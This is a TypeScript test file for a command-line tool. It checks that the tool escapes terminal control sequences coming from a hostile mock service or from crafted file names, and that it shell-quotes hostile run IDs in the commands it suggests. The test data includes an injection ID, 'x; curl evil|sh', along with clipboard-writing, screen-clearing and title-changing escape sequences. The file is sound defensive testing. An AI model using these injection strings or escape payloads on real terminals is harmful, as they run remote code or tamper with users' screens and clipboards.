import { writeFile } from "node:fs/promises";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { shellWord } from "../../../runtime/text/printable.js";
import { run, start, startOnTerminal, written } from "../../command/support/command.js";
import { createFolder } from "../../generator/support/temporary-folder.js";
import {
  startHostileService,
  type Behaviour,
  type HostileService,
} from "./support/hostile-service.js";
import { forgedLine, hostileText, obeyed, shellAttack } from "../support/hostile-text.js";
import { suggestedWords, wordsOf } from "./support/suggested-words.js";

const commands: readonly (readonly string[])[] = [
  ["run", "x"],
  ["run", "x", "--no-wait"],
  ["status", "run_1"],
  ["wait", "run_1"],
  ["browser", "open"],
  // The attack is an argument, which a script may have got from the service.
  ["browser", "stop", hostileText.replaceAll("\0", "")],
  ["account"],
  ["signup", "start"],
  ["signup", "verify", "challenge_1", "12.50"],
  ["signup", "claim"],
];

/** Titles in which nothing is obeyed by the terminal of whoever runs the tests. */
const ways = commands.map((args, at) => ({
  args,
  title: `${at + 1}, ${args.slice(0, 2).join(" ")}`,
}));

const behaviours: Readonly<Record<string, Behaviour>> = { answers: {}, refusals: { refuses: 422 } };

function settings({ baseUrl }: HostileService): Record<string, string> {
  return { SERVICE_BASE_URL: baseUrl, SERVICE_API_KEY: "key_of_the_victim" };
}

describe("sets the title, the clipboard or the screen of whoever runs the command", () => {
  describe.each(Object.entries(behaviours))("with %s", (_, behaviour) => {
    it.each(ways)("to command $title", async ({ args }) => {
      await using service = await startHostileService(behaviour);
      const { stdout, stderr } = await run(args, settings(service));
      expect(stdout + stderr).toContain("]52;c;");
      expect(stdout).not.toMatch(obeyed);
      expect(stderr).not.toMatch(obeyed);
    });

    it.each(ways)("to command $title, as JSON", async ({ args }) => {
      await using service = await startHostileService(behaviour);
      const { stdout, stderr } = await run([...args, "--json"], settings(service));
      const lines = (stdout + stderr).trimEnd().split("\n");
      // The ID of a run is known before its result.
      const isWait = args[0] === "run" && args.length === 2 && behaviour.refuses === undefined;
      expect(lines).toHaveLength(isWait ? 2 : 1);
      for (const line of lines) {
        expect(line).not.toMatch(obeyed);
        expect(JSON.stringify(JSON.parse(line))).toContain(String.raw`\u001b]52`);
      }
    });
  });

  it("with the challenge of a sign-up", async () => {
    await using service = await startHostileService();
    const { stdout, stderr, exitCode } = await run(["signup"], settings(service), "12.50\n");
    expect(exitCode).toBe(0);
    expect(stdout).toContain(String.raw`\u001b]52`);
    expect(stdout + stderr).not.toMatch(obeyed);
  });

  it("with a connection that breaks off during a wait", async () => {
    await using service = await startHostileService({ breaks: true });
    const started = start(["run", "x"], settings(service));
    await written(started, "stderr", /Ctrl-C ends the wait/);
    started.child.kill("SIGINT");
    const { stdout, stderr } = await started.ended;
    expect(stdout + stderr).not.toMatch(obeyed);
  });

  it("with a request in a file, and the name of that file", async () => {
    const file = path.join(createFolder(), "\u001b]0;owned\u0007\u009b.json");
    await writeFile(file, JSON.stringify({ model: hostileText, proxyCountryCode: hostileText }));
    const broken = path.join(createFolder(), "\u202ebroken\u001b.json");
    await writeFile(broken, hostileText);
    for (const args of [file, broken, `${broken}.none`]) {
      const { stdout, stderr } = await run(["check", args]);
      expect(stdout + stderr).not.toBe("");
      expect(stdout + stderr).not.toMatch(obeyed);
    }
  });

  it("with an argument that a script has passed on", async () => {
    const attacks = [["\u001b[2J"], ["run", "x", "--timeout", "\u001b[2J"], ["run", "--\u009b"]];
    for (const args of attacks) {
      const { stderr } = await run(args);
      expect(stderr).toMatch(/\\u00[19]b/);
      expect(stderr).not.toMatch(obeyed);
    }
  });
});

describe("draws over the terminal's own lines", () => {
  it.each(["run x", "wait run_1", "browser open", "account"])("while it shows %s", async (line) => {
    await using service = await startHostileService();
    const started = start(line.split(" "), settings(service), { isTTY: true });
    const { stdout, stderr } = await started.ended;
    expect(stdout + stderr).toContain(String.raw`\u001b]52`);
    expect(withoutOurs(stdout + stderr)).not.toMatch(obeyed);
  });

  it("while it asks for the answer to a challenge", async () => {
    await using service = await startHostileService();
    const started = startOnTerminal("signup", settings(service));
    await written(started, "stdout", /Answer: /);
    started.child.stdin.write("12.50\r");
    expect(withoutOurs((await started.ended).stdout)).not.toMatch(obeyed);
  });

  it("with a status that goes on in a line of its own", async () => {
    await using service = await startHostileService();
    const { stderr } = await run(["run", "x"], settings(service));
    expect(stderr).not.toMatch(/^The run is completed/m);
  });
});

describe("runs a program on the machine of whoever copies a suggested command", () => {
  const ids = [shellAttack, hostileText, "x; curl evil|sh", "--rf", `a${forgedLine}`];

  it.each(ids)("after Ctrl-C, with the id %j", async (id) => {
    await using service = await startHostileService({ id, endless: true });
    const started = start(["run", "x"], settings(service));
    await written(started, "stderr", /, \d s\n/);
    started.child.kill("SIGINT");
    const { stderr, exitCode } = await started.ended;
    expect(exitCode).toBe(130);
    expectOneCommand(stderr, ["wait"], id);
  });

  const hints = [
    ["run x --timeout 0.1", 4, "wait"],
    ["browser open", 0, "browser stop"],
  ] as const;
  const cases = hints.flatMap((hint) => ids.map((id) => [...hint, id] as const));

  it.each(cases)("after %s ends with %d, by %s %j", async (command, code, hint, id) => {
    await using service = await startHostileService({ id, endless: true });
    const { stderr, exitCode } = await run(command.split(" "), settings(service));
    expect(exitCode).toBe(code);
    expectOneCommand(stderr, hint.split(" "), id);
  });
});

/** What is left of a terminal's text without the sequences that are ours, or the line editor's. */
function withoutOurs(text: string): string {
  return text
    .replaceAll(/\r+\n/g, "\n")
    .replaceAll("\r\u001b[2K", "")
    .replaceAll(/\u001b\[(?:0J|\d+[Gm])/g, "");
}

/** One suggestion, of which the shell makes the command and the id as it is shown. */
function expectOneCommand(text: string, command: readonly string[], id: string): void {
  const dashes = id.startsWith("-") ? ["--"] : [];
  const expected = ["npx", "cloud-agent-sdk", ...command, ...dashes, ...wordsOf(shellWord(id))];
  expect(suggestedWords(text)).toEqual([expected]);
  expect(text).not.toMatch(/^The run is completed/m);
}
